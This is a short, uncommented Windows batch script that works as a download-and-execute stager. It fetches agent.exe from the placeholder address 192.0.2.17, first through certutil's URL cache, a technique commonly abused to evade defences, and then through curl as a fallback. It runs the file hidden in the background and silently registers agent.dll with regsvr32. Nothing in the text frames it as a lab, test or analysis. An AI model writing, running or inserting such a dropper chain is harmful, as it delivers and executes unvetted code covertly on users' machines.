@echo off
certutil -urlcache -split -f http://192.0.2.17/agent.exe agent.exe
if not exist agent.exe (
  curl http://192.0.2.17/agent.exe -o agent.exe
)
set run="agent.exe" "--quiet"
>nul 2>&1 start "" /B %run%
regsvr32.exe -s agent.dll
